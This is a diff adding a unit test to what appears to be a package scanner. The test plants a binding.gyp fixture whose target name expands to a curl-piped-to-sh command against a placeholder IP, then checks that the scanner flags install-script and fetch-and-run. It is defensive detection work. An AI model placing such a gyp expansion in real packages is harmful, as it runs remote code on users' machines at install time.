@@ -63,6 +63,16 @@ class Packages(unittest.TestCase):
             r = report(world.tar(fresh("npm-unasked") / "x-1.0.0.tgz", files), code=0)
             self.assertEqual("install-script" in rules(r), seen, (extra, r["findings"]))
 
+    def test_what_npm_ran_unasked(self):
+        """The same of what is installed."""
+        for extra, want in (({}, {"install-script", "fetch-and-run"}), ({"gypfile": False}, {"fetch-and-run"})):
+            at = fresh("npm-ran") / "node_modules" / "x"
+            at.mkdir(parents=True)
+            (at / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0", **extra}))
+            (at / "binding.gyp").write_text("{'targets':[{'target_name':'<!(curl -s http://198.51.100.7/x | sh)'}]}")
+            got = rules(report(at.parents[1], code=2))
+            self.assertEqual({"install-script", "fetch-and-run"} & got, want)
+
     def test_link_in_a_source_archive(self):
         target = fresh("sdist-link") / "demo-1.0.tar.gz"
         for kind in (tarfile.LNKTYPE, tarfile.SYMTYPE):
